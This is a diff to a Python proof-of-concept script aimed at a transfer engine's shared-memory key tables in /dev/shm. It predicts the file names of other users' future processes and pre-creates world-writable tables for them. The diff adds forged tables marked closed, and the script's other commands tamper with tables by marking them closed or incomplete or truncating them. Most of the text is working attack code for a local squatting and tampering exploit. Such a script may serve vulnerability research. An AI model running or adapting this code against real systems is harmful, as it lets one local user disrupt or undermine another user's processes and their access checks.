@@ -1,11 +1,12 @@
 #!/usr/bin/env python3
 """A local process of ANOTHER user against fabric/shm's key tables (/dev/shm/transfer-engine-keys-<FNV-1a of the
-endpoint name>). The name libfabric's shm gives an endpoint is "fi_shm://<pid>:<domain>:<endpoint>\\0", so the
+endpoint name>). The name libfabric's shm (2.1) gives an endpoint is "fi_shm://<pid>:<uid>:<endpoint>\\0", so the
 file of a process not started yet is known in advance.
 
   read               tries to read and to open for writing every key table there is (they should be rw-------)
-  squat PID COUNT    creates the tables of pids PID..PID+COUNT-1 (endpoints 0:0..1:3) before their owners do,
-                     empty and world-writable (mode 0666)
+  squat PID COUNT UID [forged]
+                     creates the tables of user UID's pids PID..PID+COUNT-1 (endpoints 0..7) before their
+                     owners do, world-writable (mode 0666): empty, or (forged) a valid table marked closed
   tamper ACTION      for every squatted table an engine has since filled: closed (mark it closed: its peers refuse
                      every access), open (mark it incomplete: its peers check nothing) or truncate (cut it to 0 bytes
                      under the mappings)
@@ -29,8 +30,8 @@ def fnv(data):
     return value
 
 
-def path_of(pid, domain, endpoint):
-    name = b"fi_shm://%d:%d:%d\0" % (pid, domain, endpoint)
+def path_of(pid, uid, endpoint):
+    name = b"fi_shm://%d:%d:%d\0" % (pid, uid, endpoint)
     return os.path.join(DIRECTORY, "transfer-engine-keys-%016x" % fnv(name))
 
 
@@ -50,19 +51,25 @@ def read():
     print(json.dumps(dict(result, mode="read", uid=os.getuid())))
 
 
-def squat(first, count):
+def squat(first, count, uid, forged):
     made = 0
     old = os.umask(0)
+    # magic, capacity, posting, pid, incomplete, closed: a table whose owner "closed" its endpoint
+    header = struct.pack("<QQQQQQ", MAGIC, 1 << 14, 0, first, 0, 1) + bytes(16)
     for pid in range(first, first + count):
-        for domain in range(2):
-            for endpoint in range(4):
-                try:
-                    os.close(os.open(path_of(pid, domain, endpoint), os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666))
-                    made += 1
-                except FileExistsError:
-                    pass
+        for endpoint in range(8):
+            try:
+                fd = os.open(path_of(pid, uid, endpoint), os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)
+                if forged:
+                    os.write(fd, header)
+                    os.ftruncate(fd, 64 + (1 << 14) * 32)
+                os.close(fd)
+                made += 1
+            except FileExistsError:
+                pass
     os.umask(old)
-    print(json.dumps({"mode": "squat", "pids": [first, first + count - 1], "files": made}))
+    print(json.dumps({"mode": "squat", "pids": [first, first + count - 1], "uid": uid, "files": made,
+                      "forged": forged}))
 
 
 def mine():
@@ -99,7 +106,7 @@ if __name__ == "__main__":
     if command == "read":
         read()
     elif command == "squat":
-        squat(int(sys.argv[2]), int(sys.argv[3]))
+        squat(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5:] == ["forged"])
     elif command == "tamper":
         tamper(sys.argv[2])
     else:
